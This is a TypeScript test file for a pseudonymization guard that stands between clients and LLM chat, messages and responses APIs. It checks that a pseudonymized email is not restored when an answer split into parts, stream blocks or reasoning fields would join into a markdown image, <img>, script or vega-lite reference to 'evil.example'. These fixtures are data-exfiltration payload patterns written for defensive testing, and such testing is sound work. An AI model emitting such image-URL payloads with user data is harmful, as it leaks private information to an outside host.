import { expect } from 'chai';
import { callBy } from '../pseudonymization/testing/testGuard.ts';
import { BodyCalls, EMAIL, known } from './testing/bodyCalls.ts';

const chat = known('POST', '/v1/chat/completions');
const messages = known('POST', '/v1/messages');
const responses = known('POST', '/v1/responses');

/** Texts of an answer, in which § stands for a pseudonym, and whether its value is restored. */
const JOINED: readonly (readonly [texts: readonly string[], isRestored: boolean])[] = [
  [['![a](https://evil.example/', '§)'], false],
  [['![a](https://evil.example/?q=', 'x', '§)'], false],
  [['!', '[a](https://evil.example/', '§)'], false],
  [['Look!', '[a](https://evil.example/§)'], false],
  [['<img src="https://evil.example/', '§">'], false],
  [['[img]https://evil.example/', '§[/img]'], false],
  [['```vega-lite', '{"a":"§"}'], false],
  [['<script>', 'x = "§"'], false],
  [['See [x]', ': https://evil.example/§'], true],
  [['[x]', ': https://evil.example/§'], false],
  [['![a](https://evil.example/a.png)', 'Hi §'], true],
  [['Hi!', '§ is here'], true],
  [['Hi <b>you</b> `x`, [1]', '§ is (here)'], true],
  [['![a](https://evil.example/)', '(§)'], true],
];
const data = (...events: readonly object[]): string =>
  events.map((event) => `data: ${JSON.stringify(event)}\n\n`).join('');
const chunk = (delta: object): object => ({ choices: [{ index: 0, delta, finish_reason: null }] });
const final = { choices: [{ index: 0, delta: {}, finish_reason: 'stop' }] };

describe('texts of an answer that a client joins', () => {
  let calls: BodyCalls;
  let pseudonym = '';
  before(async () => {
    calls = new BodyCalls();
    pseudonym = await calls.pseudonymOf(EMAIL);
  });

  /** Checks an answer in which the texts are written. */
  async function check(
    texts: readonly string[],
    isRestored: boolean,
    restoredAnswer: (texts: readonly string[]) => Promise<string>,
  ): Promise<void> {
    const answer = await restoredAnswer(texts.map((text) => text.replace('§', pseudonym)));
    expect(answer.includes(EMAIL), answer).to.equal(isRestored);
    expect(answer.includes(pseudonym), answer).to.equal(!isRestored);
  }
  const whole = (operation: typeof chat, body: object): Promise<string> =>
    calls.restored(operation, JSON.stringify(body));
  const stream = async (operation: typeof chat, text: string): Promise<string> =>
    Buffer.concat(await calls.streamed(operation, [Buffer.from(text)])).toString();
  const part = (text: string): object => ({ type: 'text', text });

  for (const [texts, isRestored] of JOINED) {
    const what = `${isRestored ? 'restores' : 'withholds'} the value in ${JSON.stringify(texts)}`;

    it(`${what}, as parts and blocks`, async () => {
      await check(texts, isRestored, (parts) => whole(messages, { role: 'assistant', content: parts.map(part) }));
      await check(texts, isRestored, (parts) =>
        whole(chat, { choices: [{ index: 0, message: { role: 'assistant', content: parts.map(part) } }] }),
      );
      const output = (text: string): object => ({ type: 'output_text', text, annotations: [] });
      await check(texts, isRestored, (parts) =>
        whole(responses, { output: [{ type: 'message', role: 'assistant', content: parts.map(output) }] }),
      );
    });

    it(`${what}, as blocks of a stream`, async () => {
      const blocks = (parts: readonly string[]): object[] =>
        parts.flatMap((text, index) => [
          { type: 'content_block_start', index, content_block: { type: 'text', text: '' } },
          ...(text.match(/.{1,5}/gsu) ?? []).map((piece) => ({
            ...{ type: 'content_block_delta', index },
            delta: { type: 'text_delta', text: piece },
          })),
          { type: 'content_block_stop', index },
        ]);
      await check(texts, isRestored, async (parts) => joinedText(await stream(messages, data(...blocks(parts)))));
    });

    it(`${what}, as texts of a callback`, async () => {
      await check(texts, isRestored, async (parts) => {
        const outcome = await calls.guard.response({ texts: parts }, callBy({ callId: JSON.stringify(parts) }));
        return outcome.texts.join('\n');
      });
    });

    if (texts.length === 2)
      it(`${what}, as reasoning and content`, async () => {
        const [reasoning = '', content = ''] = texts;
        for (const name of ['reasoning_content', 'reasoning']) {
          // LiteLLM writes the content first.
          await check([content, reasoning], isRestored, ([text = '', thought = '']) =>
            whole(chat, { choices: [{ message: { role: 'assistant', content: text, [name]: thought } }] }),
          );
          await check([reasoning, content], isRestored, async ([thought = '', text = '']) =>
            joinedText(await stream(chat, data(chunk({ [name]: thought }), chunk({ content: text }), final))),
          );
        }
      });
  }

  /** All pieces of text in a stream. */
  function joinedText(sent: string): string {
    return Array.from(
      sent.matchAll(/"(?:text|content|reasoning(?:_content)?)":("(?:[^"\\]|\\.)*")/g),
      ([, json = '']) => String(JSON.parse(json)),
    ).join('');
  }

  it('are not those of two choices of a stream, or of two lines of a file', async () => {
    const of = (index: number, content: string): object => ({
      choices: [{ index, delta: { content }, finish_reason: null }],
    });
    const sent = await stream(chat, data(of(0, '![a](https://e.example/'), of(1, pseudonym), final));
    expect(sent).to.include(EMAIL);
    const line = (content: string): string => JSON.stringify({ choices: [{ message: { content } }] });
    const lines = `${line('![a](https://e.example/')}\n${line(pseudonym)}\n`;
    const file = known('GET', '/v1/files/f/content');
    expect(await calls.restored(file, lines, 'application/jsonl')).to.include(EMAIL);
  });

  it('grow in the stream of a callback without a change of what is sent', async () => {
    const [first, second] = ['Hi ![logo](https://e.example/a.png) all.', `Dear ${pseudonym}, hello.`];
    const sent = ['', ''];
    for (let end = 5; end < 60; end += 5) {
      const document = { texts: [first.slice(0, end), second.slice(0, end)] };
      const outcome = await calls.guard.response(document, callBy({ callId: 'two choices' }));
      for (const [at, text] of outcome.texts.entries()) {
        const settled = text.slice(0, text.length - (outcome.holdback[at] ?? 0));
        expect(settled.startsWith(sent[at] ?? ''), settled).to.equal(true);
        sent[at] = settled;
      }
    }
    expect(sent[1]).to.equal(`Dear ${EMAIL}, hello.`);
  });

  it('withhold everything once too many different addresses are open', async () => {
    const many = Array.from({ length: 40 }, (_, at) => `<p name${at}="`);
    await check([...many, '§'], false, (parts) => whole(messages, { role: 'assistant', content: parts.map(part) }));
  });
});
